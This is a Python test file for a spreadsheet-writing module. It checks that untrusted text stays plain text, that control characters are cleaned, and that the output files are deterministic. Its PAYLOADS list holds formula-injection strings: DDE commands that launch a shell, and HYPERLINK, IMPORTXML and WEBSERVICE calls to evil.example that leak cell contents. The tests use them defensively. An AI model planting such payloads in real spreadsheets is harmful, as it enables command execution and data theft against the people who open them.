"""Text stays text, whatever it begins with, and nothing in a file depends on where it was made."""

from __future__ import annotations

import io
import zipfile
from datetime import date
from decimal import Decimal

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from desktop.workbooks.sheets import LONGEST, Column, Page, Sheet, clean, file_bytes, new_workbook
from tests.workbooks.books import MADE_AT, cells, opened

PAGE = Page("left & right", "middle", "Page &P of &N")
STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "'=",
    '"=',
    "=+",
    "＝",
    ";=",
    "\x00=",
    "\u200b=",
)
COMMANDS = (
    "1+1",
    'HYPERLINK("http://evil.example","x")',
    "cmd|' /C calc'!A0",
    "SUM(A1:A9)",
    'IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    'WEBSERVICE("http://evil.example")',
    'DDE("cmd";"/C calc";"x")',
    "{1,2}",
)
PAYLOADS = [start + command for start in STARTS for command in COMMANDS]


def _file(*texts: str) -> bytes:
    book = new_workbook("title", "author", MADE_AT)
    sheet = Sheet(book, "Sheet", PAGE)
    sheet.title(texts[0], texts[0])
    sheet.head([Column(text, 20) for text in texts[:2]], fixed=True)
    for text in texts:
        sheet.row(text)
    sheet.note(texts[0])
    return file_bytes(book, MADE_AT)


def test_no_payload_becomes_a_formula_or_a_link() -> None:
    assert len(PAYLOADS) >= 100
    book = opened(_file(*PAYLOADS))
    found = cells(book)
    assert len(found) >= len(PAYLOADS)
    assert {cell.data_type for cell in found} == {"s"}
    assert not [cell for cell in found if cell.hyperlink]
    values = {cell.value for cell in found}
    assert {clean(payload) for payload in PAYLOADS} <= values
    assert b"<f>" not in _parts(_file(*PAYLOADS))["xl/worksheets/sheet1.xml"]


@given(st.text(max_size=50))
@settings(max_examples=60)
def test_any_text_is_read_back_as_it_was_cleaned(text: str) -> None:
    book = opened(_file(text, "x"))
    value = book["Sheet"].cell(1, 1).value
    assert (value or "") == clean(text)
    assert not any(cell.data_type == "f" for cell in cells(book))


@pytest.mark.parametrize(
    ("given_text", "cell"),
    [
        ("a\r\nb\rc\u2028d\ve", "a\nb\nc\nd\ne"),
        ("\x00a\x1bb\u202ec\u200f", "abc"),
        ("\ud800x\ufffe", "\ufffdx\ufffd"),
        ("Ә ӯ ₸ 😀", "Ә ӯ ₸ 😀"),
    ],
)
def test_what_a_cell_cannot_hold_is_replaced(given_text: str, cell: str) -> None:
    assert clean(given_text) == cell
    assert opened(_file(given_text, "x"))["Sheet"].cell(1, 1).value == cell


def test_a_text_too_long_for_the_format_is_cut_to_it() -> None:
    assert len(clean("x" * 40_000)) == LONGEST


def test_numbers_dates_and_amounts_are_no_text() -> None:
    book = new_workbook("title", "author", MADE_AT)
    sheet = Sheet(book, "Sheet", PAGE)
    sheet.head([Column(str(at), 20) for at in range(5)])
    sheet.row(7, Decimal("2.50"), date(2015, 7, 1), None, "7", amount=True)
    row = opened(file_bytes(book, MADE_AT))["Sheet"][2]
    assert [cell.data_type for cell in row] == ["n", "n", "d", "n", "s"]
    assert [cell.number_format for cell in row[:3]] == ["General", "#,##0.00", "dd.mm.yyyy"]


def test_a_name_cannot_command_the_footer() -> None:
    book = new_workbook("title", "author", MADE_AT)
    Sheet(book, "Sheet", Page("A & B &P\n&D", "middle", "Page &P of &N"))
    xml = _parts(file_bytes(book, MADE_AT))["xl/worksheets/sheet1.xml"].decode()
    assert "A &amp;&amp; B &amp;&amp;P &amp;&amp;D" in xml
    assert "Page &amp;P of &amp;N" in xml


def test_the_file_knows_no_other_time_than_its_own() -> None:
    data = _file("x", "y")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert {part.date_time for part in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}
    core = _parts(data)["docProps/core.xml"].decode()
    assert core.count("2026-11-22T10:05:33Z") == 2
    assert "openpyxl" not in core


def _parts(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}
